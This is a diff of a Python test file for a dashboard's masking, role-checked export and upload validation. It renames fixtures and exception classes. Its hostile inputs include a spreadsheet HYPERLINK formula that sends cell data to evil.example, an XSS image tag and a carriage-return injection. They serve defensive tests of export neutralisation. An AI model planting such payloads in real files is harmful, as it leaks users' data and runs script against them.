@@ -14,12 +14,13 @@ from sqlmodel import Session, select
 
 from dashboard.db import get_engine
 from dashboard.io import exports
-from dashboard.io.uploads import UploadError, check_upload
+from dashboard.io.uploads import check_upload
 from dashboard.kernel import privacy
-from dashboard.kernel.scope import Actor, ScopeError
+from dashboard.kernel.errors import Invalid, NotPermitted
+from dashboard.kernel.scope import Actor
 from models import AuditLog
 from models.enums import Role
-from tests.factories import World, build_world
+from tests.factories import World
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?x="&A1,"click")',
@@ -38,11 +39,10 @@ def _actor(role: Role) -> Actor:
 
 
 @pytest.fixture
-def world(db_url: str) -> Iterator[tuple[Session, World]]:
-    with Session(get_engine(db_url)) as session:
-        w = build_world(session)
-        session.commit()
-        yield session, w
+def world_session(world: World) -> Iterator[tuple[Session, World]]:
+    """The TINY world and a session on it."""
+    with Session(get_engine(world.url)) as session:
+        yield session, world
 
 
 # ---------------------------------------------------------------- masking
@@ -86,7 +86,7 @@ def test_mask_id_number_and_address() -> None:
 
 
 def test_masker_kinds() -> None:
-    assert privacy.mask("phone", "13812345678") == "138****5678"
+    assert privacy.MASKERS["phone"]("13812345678") == "138****5678"
     assert set(privacy.MASKERS) == {"name", "phone", "id_number", "address"}
 
 
@@ -94,9 +94,9 @@ def test_masker_kinds() -> None:
 
 
 @pytest.mark.parametrize("role", list(Role))
-def test_reveal_checks_role_and_always_audits(world, role: Role) -> None:  # type: ignore[no-untyped-def]
-    s, w = world
-    me = w.users[str(role)]
+def test_reveal_checks_role_and_always_audits(world_session, role: Role) -> None:  # type: ignore[no-untyped-def]
+    s, w = world_session
+    me = w.actors[str(role)]
     for kind, allowed_roles in (
         ("case", {Role.admin, Role.operator, Role.community}),
         ("volunteer", {Role.admin, Role.volunteer_manager}),
@@ -163,7 +163,7 @@ def test_unmasked_export_only_for_allowed_roles() -> None:
     assert out["reporter_phone"][0] == "13812345678"
     assert out["title"][2] == "'" + HOSTILE[0]  # neutralised even when unmasked
     for role in set(Role) - {Role.admin}:
-        with pytest.raises(ScopeError):
+        with pytest.raises(NotPermitted):
             exports.export_frame(df, _actor(role), {"reporter_phone": "phone"}, unmasked=True)
 
 
@@ -190,35 +190,35 @@ def test_xlsx_bytes_has_no_formula_cells() -> None:
     assert "<img src=x onerror=alert(1)>" in values
 
 
-def test_export_bytes_writes_one_audit_row(world) -> None:  # type: ignore[no-untyped-def]
-    s, w = world
+def test_export_bytes_writes_one_audit_row(world_session) -> None:  # type: ignore[no-untyped-def]
+    s, w = world_session
     data = exports.export_bytes(
-        s, w.users["operator"], "cases", _frame(), "xlsx", {"reporter_phone": "phone"}, filters={"text": "x"}
+        s, w.actors["operator"], "cases", _frame(), "xlsx", {"reporter_phone": "phone"}, filters={"text": "x"}
     )
     assert data.startswith(b"PK")
-    with pytest.raises(ScopeError):
+    with pytest.raises(NotPermitted):
         exports.export_bytes(
-            s, w.users["operator"], "cases", _frame(), "csv", {"reporter_phone": "phone"}, unmasked=True
+            s, w.actors["operator"], "cases", _frame(), "csv", {"reporter_phone": "phone"}, unmasked=True
         )
     exports.export_bytes(
-        s, w.users["admin"], "cases", _frame(), "csv", {"reporter_phone": "phone"}, unmasked=True
+        s, w.actors["admin"], "cases", _frame(), "csv", {"reporter_phone": "phone"}, unmasked=True
     )
     s.commit()
     rows = s.exec(select(AuditLog).where(AuditLog.action == "export").order_by(AuditLog.id)).all()
     assert [(r.actor_id, r.target, r.outcome) for r in rows] == [
-        (w.users["operator"].id, "cases", "ok"),
-        (w.users["admin"].id, "cases", "unmasked"),
+        (w.actors["operator"].id, "cases", "ok"),
+        (w.actors["admin"].id, "cases", "unmasked"),
     ]
     detail = json.loads(rows[0].detail)
     assert detail == {"rows": len(_frame()), "format": "xlsx", "unmasked": False, "filters": {"text": "x"}}
 
 
-def test_queue_case_export_masks_and_neutralises(world) -> None:  # type: ignore[no-untyped-def]
+def test_queue_case_export_masks_and_neutralises(world_session) -> None:  # type: ignore[no-untyped-def]
     """The queue's case export (another area) goes through the same helpers: check the bytes it produces."""
     from dashboard.cases import queue
     from tests.factories import add_case
 
-    s, w = world
+    s, w = world_session
     add_case(
         s,
         w,
@@ -230,7 +230,7 @@ def test_queue_case_export_masks_and_neutralises(world) -> None:  # type: ignore
     )
     add_case(s, w, 0, title="abc\r=1+1")
     s.commit()
-    data = queue.export_csv(s, w.users["operator"])
+    data = queue.export_csv(s, w.actors["operator"])
     rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
     col = {name: i for i, name in enumerate(queue.EXPORT_COLUMNS)}
     assert len(rows) == 3  # header + 2 cases: the carriage return did not start a row
@@ -276,13 +276,13 @@ def test_check_upload_accepts_good_files() -> None:
     ],
 )
 def test_check_upload_refuses(name: str, data: bytes, key: str) -> None:
-    with pytest.raises(UploadError) as e:
+    with pytest.raises(Invalid) as e:
         check_upload(_Upload(name, data), (".csv", ".xlsx"), 1)
     assert e.value.key == key
 
 
 def test_check_upload_missing_file() -> None:
-    with pytest.raises(UploadError) as e:
+    with pytest.raises(Invalid) as e:
         check_upload(None, (".csv",), 1)
     assert e.value.key == "upload.missing"
 
